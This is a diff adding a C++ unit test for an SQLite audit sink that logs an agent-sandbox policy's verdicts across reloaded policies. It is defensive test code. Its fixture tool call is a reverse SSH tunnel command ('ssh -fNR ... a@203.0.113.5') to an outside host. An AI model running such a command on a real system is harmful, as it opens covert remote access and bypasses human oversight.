@@ -307,6 +307,35 @@ TEST(SqliteSink, EventBatchRoundTrip) {
   EXPECT_EQ(reader->Runs()->front().violations, violations);
 }
 
+// Batches of different policies (a policy reloaded mid-run) keep their own
+// rule and capability names, however the writer caches them.
+TEST(SqliteSink, EventBatchesOfSeveralPolicies) {
+  TempDir dir;
+  const std::string path = dir.File("policies.db");
+  auto sink = SqliteSink::Open(path, TestRun("policies"));
+  ASSERT_TRUE(sink.ok()) << sink.status();
+  std::vector<DecisionRecord> expected;
+  const ToolCall call{"shell", R"({"command": "ssh -fNR 9000:localhost:22 a@203.0.113.5"})"};
+  for (int round = 0; round < 4; ++round) {
+    PolicyPtr policy = *LoadBuiltinPolicy("coding-sandbox");  // a new object each time
+    Evaluator evaluator(policy, 1);
+    EventBatch batch(policy);
+    Verdict v = evaluator.Evaluate(0, call);
+    batch.Add(v, {.step = round, .tool = call.tool, .arguments = call.arguments,
+                  .timestamp_us = 1700000000000000 + round});
+    expected.push_back(batch.Record(0));
+    ASSERT_TRUE((*sink)->WriteBatch(&batch).ok());
+  }  // each policy is released here; the sink keeps what it still needs
+  ASSERT_TRUE((*sink)->Close().ok());
+  auto read = AuditReader::Open(path)->ReadRecords(std::nullopt);
+  ASSERT_TRUE(read.ok()) << read.status();
+  ASSERT_EQ(read->size(), expected.size());
+  for (size_t i = 0; i < expected.size(); ++i) {
+    expected[i].run_id = (*sink)->run_id();
+    EXPECT_EQ((*read)[i], expected[i]) << "record " << i;
+  }
+}
+
 // Texts JSON cannot hold as they are (bytes that are not UTF-8, NUL, control
 // characters) and numbers it cannot (NaN, infinities) survive the blocks.
 TEST(SqliteSink, OddTextsAndNumbersRoundTrip) {
